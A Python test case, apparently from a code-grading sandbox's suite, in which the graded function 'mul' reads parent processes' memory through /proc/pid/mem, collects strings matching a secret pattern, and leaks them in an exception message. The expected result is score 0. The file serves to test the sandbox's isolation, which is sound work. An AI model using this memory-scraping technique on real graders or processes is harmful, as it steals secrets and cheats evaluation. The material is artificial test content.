# mypy: ignore-errors
# ruff: noqa
"""Searches the memory of the zygote and of the grader for secrets.

Class: reading
Act: in mul
Expected: score 0; no path opens
"""

import os, re

SECRET = re.compile(rb"kitsecret[0-9a-f]{12}")


def parents():
    pid = os.getppid()
    for _ in range(4):
        if pid <= 1:
            return
        yield pid
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rsplit(")", 1)[1].split()[1])


def mul(a, b):
    found = set()
    for pid in parents():
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            if b"@LAB@" not in file.read():
                continue
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                first, last = (int(part, 16) for part in line.split()[0].split("-"))
                if " rw-p" in line and last - first < 1 << 28:
                    memory.seek(first)
                    found.update(SECRET.findall(memory.read(last - first)))
    raise ValueError(b" ".join(found).decode())
